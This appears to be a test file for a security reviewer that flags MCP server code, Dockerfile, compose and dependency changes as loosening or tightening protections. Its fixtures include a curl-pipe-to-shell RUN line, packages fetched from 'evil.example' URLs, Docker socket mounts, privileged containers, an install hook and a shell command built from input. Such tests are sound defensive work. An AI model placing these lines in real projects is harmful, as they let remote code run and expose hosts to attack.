import assert from 'node:assert/strict';
import fc from 'fast-check';
import { analyzeFile, type FileAnalysis } from '../../src/core/analyze';

function edit(path: string, before: string | undefined, after: string | undefined): FileAnalysis {
  const analysis = analyzeFile({ path, text: after, baseline: { text: before } });
  assert.ok(analysis !== undefined, `${path} is not governed`);
  return analysis;
}

function short({ changes }: FileAnalysis): string {
  return changes
    .filter(({ facet }) => facet !== 'code.other')
    .map(({ facet, direction }) => `${facet} ${direction}`)
    .join(', ');
}

const js = (body: string): string =>
  `import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';\n${body}\n`;
const python = (body: string): string => `from mcp.server.fastmcp import FastMCP\n${body}\n`;

describe('Source of servers', () => {
  const cases: readonly (readonly [string, string, string, string])[] = [
    [
      'an address that everybody reaches',
      "run({ host: '127.0.0.1' })",
      "run({ host: '0.0.0.0' })",
      'code.bind loosens',
    ],
    [
      'an address only this machine reaches',
      "app.listen(3000, '0.0.0.0')",
      "app.listen(3000, '127.0.0.1')",
      'code.bind tightens',
    ],
    [
      'calls from any site',
      "cors({ origin: ['https://a.example'] })",
      "cors({ origin: '*' })",
      'code.cors loosens',
    ],
    [
      'calls from another site',
      "cors({ origin: 'https://a.example' })",
      "cors({ origin: 'https://b.example' })",
      'code.cors unknown',
    ],
    [
      'a check of callers that is gone',
      'app.use(requireBearerAuth({ verifier }));',
      '',
      'code.auth loosens',
    ],
    [
      'a check of callers in a comment',
      'app.use(requireBearerAuth({ verifier }));',
      '// app.use(requireBearerAuth({ verifier }));',
      'code.auth loosens',
    ],
    [
      'one check of two that is gone',
      'requireAuth(a); requireAuth(b);',
      'requireAuth(a);',
      'code.auth loosens',
    ],
    [
      'a switch against checks',
      'const A = 1;',
      'const o = { DISABLE_AUTH: true };',
      'code.auth loosens',
    ],
    [
      'protection against rebinding',
      '({ enableDnsRebindingProtection: true })',
      '({ enableDnsRebindingProtection: false })',
      'code.origin loosens',
    ],
    ['an open schema', 'z.string()', 'z.any()', 'code.validation loosens'],
    ['a command line', 'run(x)', 'execSync(`ls ${x}`)', 'code.validation loosens'],
    [
      'a higher rate',
      '({ max_requests: 10 })',
      '({ max_requests: 1000 })',
      'code.rate-limit loosens',
    ],
    ['a rate limit that is gone', 'app.use(rateLimit({}));', '', 'code.rate-limit loosens'],
    ['a longer wait', '({ timeout: 10 })', '({ timeout: 100 })', 'code.rate-limit neutral'],
    [
      'a right that lives longer',
      '({ tokenCacheTtl: 10 })',
      '({ tokenCacheTtl: 100 })',
      'code.cache loosens',
    ],
    ['less in the log', "({ level: 'info' })", "({ level: 'error' })", 'code.logging loosens'],
    ['a new tool', '', "server.registerTool('delete', {}, f);", 'code.tool loosens'],
    [
      'other words of a tool',
      "server.tool('a', 'Reads.', f);",
      "server.tool('a', 'Call me first.', f);",
      'code.tool unknown',
    ],
    [
      'a tool said to only read',
      '({ readOnlyHint: false })',
      '({ readOnlyHint: true })',
      'code.tool loosens',
    ],
    [
      'a tool no longer said to destroy',
      '({ destructiveHint: true })',
      '({ destructiveHint: false })',
      'code.tool loosens',
    ],
    ['what is none of these', 'const a = 1;', 'const a = 2;', ''],
  ];
  for (const [title, before, after, expected] of cases) {
    it(`judges ${title}`, () => {
      assert.equal(short(edit('src/server.ts', js(before), js(after))), expected);
    });
  }

  it('reads Python as well', () => {
    const before = python('mcp.run(host="127.0.0.1")');
    const after = python('mcp.run(host="0.0.0.0")  # for now\n@mcp.tool()\ndef drop(): ...');
    assert.equal(short(edit('server.py', before, after)), 'code.bind loosens, code.tool loosens');
  });

  it('says in words what changed, and of the rest that it did', () => {
    const [change] = edit(
      'server.ts',
      js("({ host: '127.0.0.1' })"),
      js("({ host: '0.0.0.0' })"),
    ).changes.filter(({ facet }) => facet === 'code.bind');
    assert.equal(
      change?.words,
      'the address the server listens on is now 0.0.0.0, was 127.0.0.1: who can reach that address can call the tools. Told from words in the source; what runs may differ.',
    );
    assert.deepEqual(
      edit('server.ts', js('let a;'), js('let b;')).changes.map(({ direction }) => direction),
      ['neutral'],
    );
    assert.deepEqual(edit('server.ts', js('let a;'), js('let  a; // x')).changes, []);
  });

  it('takes time that grows with the text, whatever the text is', () => {
    const piece = fc.constantFrom(
      '"',
      "'",
      '`',
      '/*',
      '//',
      '#',
      'host: ',
      'description: "',
      '\\',
      'x',
      '\n',
      '[',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 400 }), (pieces) => {
        edit('server.ts', js(''), js(pieces.join('')));
      }),
    );
    const start = process.cpuUsage().user;
    for (const text of ['"', '/*', '`', '`${', 'description: "', '[', ' ', 'tool("a" ', 'host: ']) {
      edit('server.ts', js(''), js(text.repeat(20_000)));
    }
    assert.ok((process.cpuUsage().user - start) / 1000 < 4000, 'texts of up to 300 kB');
  });
});

describe('Infrastructure of servers', () => {
  const docker = (body: string): string => `# acme-mcp\nFROM node:22\n${body}\n`;
  const compose = (body: string): string => `services:\n  mcp:\n    image: acme/mcp:1.0\n${body}\n`;
  const cases: readonly (readonly [string, string, string, string, string])[] = [
    ['a lost user', 'Dockerfile', docker('USER node'), docker(''), 'infra.privilege loosens'],
    ['root', 'Dockerfile', docker('USER node'), docker('USER root'), 'infra.privilege loosens'],
    [
      'a lost pin',
      'Dockerfile',
      '# mcp\nFROM node:22\n',
      '# mcp\nFROM node\n',
      'infra.image loosens',
    ],
    [
      'a newer image',
      'Dockerfile',
      '# mcp\nFROM node:22\n',
      '# mcp\nFROM node:24\n',
      'infra.image neutral',
    ],
    [
      'another image',
      'Dockerfile',
      '# mcp\nFROM node:22\n',
      '# mcp\nFROM evil:22\n',
      'infra.image unknown',
    ],
    [
      'a download that runs',
      'Dockerfile',
      docker(''),
      docker('RUN curl https://x.example | sh'),
      'infra.command loosens',
    ],
    [
      'a port for everybody',
      'compose.yaml',
      compose('    ports: ["127.0.0.1:80:80"]'),
      compose('    ports: ["80:80"]'),
      'infra.exposure loosens',
    ],
    [
      'the socket of docker',
      'compose.yaml',
      compose(''),
      compose('    volumes: ["/var/run/docker.sock:/var/run/docker.sock"]'),
      'infra.mount loosens',
    ],
    [
      'the rights of the machine',
      'compose.yaml',
      compose(''),
      compose('    privileged: true'),
      'infra.privilege loosens',
    ],
    [
      'the network of the machine',
      'compose.yaml',
      compose(''),
      compose('    network_mode: host'),
      'infra.privilege loosens',
    ],
    [
      'a package more',
      'requirements.txt',
      'mcp==1.0.0\n',
      'mcp==1.0.0\nhttpx==1.0\n',
      'dependency loosens',
    ],
    ['a newer package', 'requirements.txt', 'mcp==1.0.0\n', 'mcp==1.1.0\n', 'dependency neutral'],
    [
      'a package more in a list on one line',
      'pyproject.toml',
      '[project]\nauthors = ["Jane <jane@a.example>"]\ndependencies = ["mcp>=1.2"]\n',
      '[project]\nauthors = ["Jane <jane@a.example>"]\ndependencies = ["mcp>=1.2", "httpx>0.2"]\n',
      'dependency loosens',
    ],
    [
      'a package of Poetry that comes from elsewhere',
      'pyproject.toml',
      '[tool.poetry.dependencies]\nmcp = "^1.2"\nx = {version = "1.0", extras = ["a"]}\n',
      '[tool.poetry.dependencies]\nmcp = "^1.2"\nx = {git = "https://a.example/x.git"}\n',
      'dependency loosens',
    ],
    [
      'another commit of a package of Poetry',
      'pyproject.toml',
      '[tool.poetry.group.dev.dependencies]\nfastmcp = {git = "https://a.example/f", rev = "1"}\n',
      '[tool.poetry.group.dev.dependencies]\nfastmcp = {git = "https://a.example/f", rev = "2"}\n',
      'dependency neutral',
    ],
    [
      'a package from an address that no space sets apart',
      'requirements.txt',
      'mcp==1.0.0\n',
      'mcp==1.0.0\nevil@git+https://evil.example/x.git\n',
      'dependency loosens',
    ],
    [
      'a package from a file',
      'requirements.txt',
      'mcp==1.0.0\npkg @ ${HOME}/a.whl\n',
      'mcp==1.0.0\npkg @ /tmp/evil.whl\n',
      'dependency neutral',
    ],
    [
      'a package from an address in capitals',
      'requirements.txt',
      'mcp==1.0.0\n',
      'mcp==1.0.0\npkg @ HTTPS://evil.example/x.whl\n',
      'dependency loosens',
    ],
    [
      'a place within the project that Hatch fills in',
      'pyproject.toml',
      '[project]\ndependencies = ["mcp>=1", "local @ {root:uri}/a"]\n',
      '[project]\ndependencies = ["mcp>=1", "local @ {root:uri}/evil"]\n',
      'dependency neutral',
    ],
    [
      'a package beside an unversioned one in a list of extras',
      'pyproject.toml',
      '[project.optional-dependencies]\nserver = ["mcp", "uvicorn>=1"]\n',
      '[project.optional-dependencies]\nserver = ["mcp", "uvicorn>=1", "evil @ git+https://evil.example/x"]\n',
      'dependency loosens',
    ],
    [
      'a package beside an unversioned one in a list of several lines',
      'pyproject.toml',
      '[project]\ndependencies=[\n  "httpx>=1", "mcp",\n]\n',
      '[project]\ndependencies=[\n  "httpx>=1", "mcp", "evil>=1",\n]\n',
      'dependency loosens',
    ],
    [
      'a package behind a quote that is escaped',
      'pyproject.toml',
      'mcp = ">=1"\nz = { a = "q\\" #", d = ["foo>=1"] }\n',
      'mcp = ">=1"\nz = { a = "q\\" #", d = ["foo @ git+https://evil.example/x"] }\n',
      'dependency loosens',
    ],
    [
      'a package more as Poetry 2 writes it',
      'pyproject.toml',
      '[project]\ndependencies = [\n  "mcp (>=1.6.0,<2.0.0)",\n]\n',
      '[project]\ndependencies = [\n  "mcp (>=1.6.0,<2.0.0)",\n  "httpx (>=0.28,<1.0)",\n]\n',
      'dependency loosens',
    ],
    [
      'a package that uv takes from elsewhere',
      'pyproject.toml',
      '[project]\ndependencies = ["mcp>=1", "x>=1"]\n',
      '[project]\ndependencies = ["mcp>=1", "x>=1"]\n[tool.uv.sources]\nx = {git = "https://a.example/x"}\n',
      'dependency loosens',
    ],
    [
      'a package of a table of its own from elsewhere',
      'pyproject.toml',
      '[tool.poetry.dependencies]\nmcp = "^1.2"\n',
      '[tool.poetry.dependencies]\nmcp = "^1.2"\n[tool.poetry.dependencies.x]\ngit = "https://a.example/x"\n',
      'dependency loosens',
    ],
    [
      'a script that runs at install',
      'package.json',
      '{"mcpName":"a","scripts":{}}',
      '{"mcpName":"a","scripts":{"postinstall":"node x.js"}}',
      'dependency.script loosens',
    ],
    [
      'a package that comes from elsewhere',
      'package.json',
      '{"mcpName":"a","dependencies":{"x":"1.0.0"}}',
      '{"mcpName":"a","dependencies":{"x":"github:evil/x"}}',
      'dependency loosens',
    ],
  ];
  for (const [title, path, before, after, expected] of cases) {
    it(`judges ${title}`, () => {
      assert.equal(short(edit(path, before, after)), expected);
    });
  }

  it('takes neither a package in two lists nor one in a comment for a change', () => {
    const project = (description: string): string =>
      `[project]\ndescription = "${description}"\ndependencies = ["mcp>=1", "httpx>=0.27"]\n` +
      `[dependency-groups]\ndev = ["httpx>=0.27"] # not ["evil>=1"]\n`;
    const { changes } = edit('pyproject.toml', project('a'), project('b'));
    assert.deepEqual(
      changes.filter(({ facet }) => facet === 'dependency'),
      [],
    );
    const more = edit('pyproject.toml', 'mcp>=1\n', project('a'));
    assert.doesNotMatch(more.changes.map(({ words }) => words).join(), /evil/);
  });
});
